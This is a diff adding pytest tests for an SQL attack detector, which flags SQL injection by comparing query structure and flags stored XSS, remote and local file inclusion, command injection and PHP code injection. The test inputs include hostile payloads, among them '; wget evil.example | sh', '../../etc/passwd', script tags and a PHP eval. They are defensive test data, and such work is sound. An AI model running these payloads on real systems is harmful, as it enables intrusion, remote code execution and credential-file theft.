@@ -1,0 +1,154 @@
+"""Tests for the attack detector (two-step SQLI + stored dispatch)."""
+
+from repro.core.detector import AttackDetector, AttackType
+from repro.core.query_model import QueryModel
+from repro.core.query_structure import QueryStructure
+from repro.sqldb.parser import parse_one
+from repro.sqldb.validator import validate
+
+
+def qs_of(sql):
+    return QueryStructure.from_stack(validate(parse_one(sql)))
+
+
+def qm_of(sql):
+    return QueryModel.from_structure(qs_of(sql))
+
+
+TICKET = "SELECT * FROM tickets WHERE reservID = '%s' AND creditCard = %s"
+
+
+class TestSqliDetection(object):
+    def setup_method(self):
+        self.detector = AttackDetector()
+        self.model = qm_of(TICKET % ("ID34FG", "1234"))
+
+    def test_benign_matches(self):
+        detection = self.detector.detect_sqli(
+            qs_of(TICKET % ("OTHER", "42")), self.model
+        )
+        assert not detection.is_attack
+        assert not detection
+
+    def test_structural_attack_step1(self):
+        # Figure 3: the '-- payload removed the second condition
+        attack = qs_of("SELECT * FROM tickets WHERE reservID = 'ID34FG'")
+        detection = self.detector.detect_sqli(attack, self.model)
+        assert detection.is_attack
+        assert detection.step == 1
+        assert detection.kind_label == "structural"
+        assert "node count" in detection.detail
+
+    def test_mimicry_attack_step2(self):
+        # Figure 4: same node count, INT where a FIELD should be
+        attack = qs_of(
+            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1"
+        )
+        detection = self.detector.detect_sqli(attack, self.model)
+        assert detection.is_attack
+        assert detection.step == 2
+        assert detection.kind_label == "syntactical"
+        assert detection.attack_type == AttackType.SQLI
+
+    def test_element_value_mismatch_step2(self):
+        # same shape, different operator
+        model = qm_of("SELECT * FROM t WHERE a = 1")
+        attack = qs_of("SELECT * FROM t WHERE a > 1")
+        detection = self.detector.detect_sqli(attack, model)
+        assert detection.is_attack and detection.step == 2
+
+    def test_data_type_change_detected(self):
+        model = qm_of("SELECT * FROM t WHERE a = 1")
+        attack = qs_of("SELECT * FROM t WHERE a = 'one'")
+        detection = self.detector.detect_sqli(attack, model)
+        assert detection.is_attack and detection.step == 2
+
+    def test_data_value_change_allowed(self):
+        model = qm_of("SELECT * FROM t WHERE a = 1")
+        benign = qs_of("SELECT * FROM t WHERE a = 777")
+        assert not self.detector.detect_sqli(benign, model)
+
+    def test_table_change_detected(self):
+        model = qm_of("SELECT * FROM t WHERE a = 1")
+        attack = qs_of("SELECT * FROM users WHERE a = 1")
+        assert self.detector.detect_sqli(attack, model).is_attack
+
+    def test_union_added_detected(self):
+        attack = qs_of(
+            TICKET % ("x", "0") + " UNION SELECT 1, 2, 3 FROM tickets"
+        )
+        assert self.detector.detect_sqli(attack, self.model).step == 1
+
+    def test_matches_any(self):
+        models = [qm_of("SELECT a FROM t"), qm_of("SELECT a, b FROM t")]
+        assert self.detector.matches_any(qs_of("SELECT a FROM t"), models)
+        assert not self.detector.matches_any(
+            qs_of("SELECT a, b, c FROM t"), models
+        )
+
+
+class TestStoredDetection(object):
+    def setup_method(self):
+        self.detector = AttackDetector()
+
+    def test_xss_in_insert(self):
+        qs = qs_of(
+            "INSERT INTO t (c) VALUES ('<script>alert(1)</script>')"
+        )
+        detection = self.detector.detect_stored(qs)
+        assert detection.is_attack
+        assert detection.attack_type == "STORED_XSS"
+        assert detection.plugin == "StoredXSSPlugin"
+
+    def test_xss_in_update(self):
+        qs = qs_of("UPDATE t SET c = '<img src=x onerror=alert(1)>'")
+        assert self.detector.detect_stored(qs).is_attack
+
+    def test_select_not_inspected(self):
+        qs = qs_of("SELECT * FROM t WHERE c = '<script>x</script>'")
+        assert not self.detector.detect_stored(qs)
+
+    def test_delete_not_inspected(self):
+        qs = qs_of("DELETE FROM t WHERE c = '<script>x</script>'")
+        assert not self.detector.detect_stored(qs)
+
+    def test_benign_insert(self):
+        qs = qs_of("INSERT INTO t (a, b) VALUES ('hello world', 42)")
+        assert not self.detector.detect_stored(qs)
+
+    def test_non_string_data_ignored(self):
+        qs = qs_of("INSERT INTO t (a) VALUES (123456)")
+        assert not self.detector.detect_stored(qs)
+
+    def test_rfi_detected(self):
+        qs = qs_of(
+            "INSERT INTO t (c) VALUES ('http://evil.example/x.php')"
+        )
+        assert self.detector.detect_stored(qs).attack_type == "STORED_RFI"
+
+    def test_lfi_detected(self):
+        qs = qs_of("INSERT INTO t (c) VALUES ('../../etc/passwd')")
+        assert self.detector.detect_stored(qs).attack_type == "STORED_LFI"
+
+    def test_osci_detected(self):
+        qs = qs_of(
+            "INSERT INTO t (c) VALUES ('; wget evil.example | sh')"
+        )
+        assert self.detector.detect_stored(qs).attack_type == "STORED_OSCI"
+
+    def test_ambiguous_payload_first_plugin_wins(self):
+        # "; cat /etc/passwd" is both OSCI and LFI; the plugin order is
+        # deterministic, so the LFI plugin (earlier in the list) reports.
+        qs = qs_of("INSERT INTO t (c) VALUES ('; cat /etc/passwd')")
+        assert self.detector.detect_stored(qs).attack_type == "STORED_LFI"
+
+    def test_rce_detected(self):
+        qs = qs_of("INSERT INTO t (c) VALUES ('<?php eval($x); ?>')")
+        # XSS plugin runs first but an HTML parser sees no script; the
+        # RCE plugin confirms.
+        assert self.detector.detect_stored(qs).attack_type == "STORED_RCE"
+
+    def test_custom_plugin_list(self):
+        detector = AttackDetector(plugins=[])
+        qs = qs_of("INSERT INTO t (c) VALUES ('<script>x</script>')")
+        assert not detector.detect_stored(qs)
